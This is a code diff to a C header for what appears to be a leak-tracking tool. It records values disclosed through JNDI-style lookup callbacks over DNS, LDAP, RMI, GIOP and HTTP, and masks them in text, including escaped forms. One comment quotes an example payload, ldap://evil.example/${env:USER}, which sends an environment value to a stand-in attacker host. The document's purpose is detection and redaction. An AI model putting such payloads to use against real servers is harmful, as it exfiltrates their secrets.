@@ -7,9 +7,9 @@
 /* What a payload asks of its victim stands in the resolved name as the expression it came from:
  * ldap://evil.example/${env:USER}. Where the name comes back with the value in its place, the value is known,
  * and to whom it was told. */
-enum leak_place { LEAK_DNS, LEAK_LDAP, LEAK_RMI, LEAK_HTTP, LEAK_PLACE_N };
+enum leak_place { LEAK_DNS, LEAK_LDAP, LEAK_RMI, LEAK_GIOP, LEAK_HTTP, LEAK_PLACE_N };
 
-const char *leak_place_name(enum leak_place p); /* "dns", "ldap.dn", "rmi.name", "http.uri" */
+const char *leak_place_name(enum leak_place p); /* "dns", "ldap.dn", "rmi.name", "giop.name", "http.uri" */
 
 struct leak {
     struct leak *next; /* in the order in which they were learned */
@@ -41,12 +41,18 @@ struct leak_sight {
 };
 bool leaks_learn(struct leak **list, const struct leak_sight *s);
 
+/* Values known from elsewhere that stand in seen, as words of their own: so many letters and digits are there
+ * by chance in a longer one. Each is added once more, for this place. Those that stand in pattern are left
+ * out: they would be there without the victim. */
+void leaks_find(struct leak **list, const struct leak_sight *s);
+
 /* First and last character with the rest left out; nothing of a value so short that they would be most of it.
  */
 void leak_redact(const struct leak *l, struct buf *out);
 
 /* Writes stars over all but the first and last character of each value that stands in text, whatever the case
- * of its letters. Values below LEAK_SHORT bytes are left: they would be found everywhere. */
+ * of its letters, and also where bytes of it are escaped: %2F of a URL, \2F of a DN (RFC 4514 section 2.4).
+ * Values below LEAK_SHORT bytes are left: they would be found everywhere. */
 #define LEAK_SHORT 4
 void leaks_mask(const struct leak *list, uint8_t *text, size_t len);
 
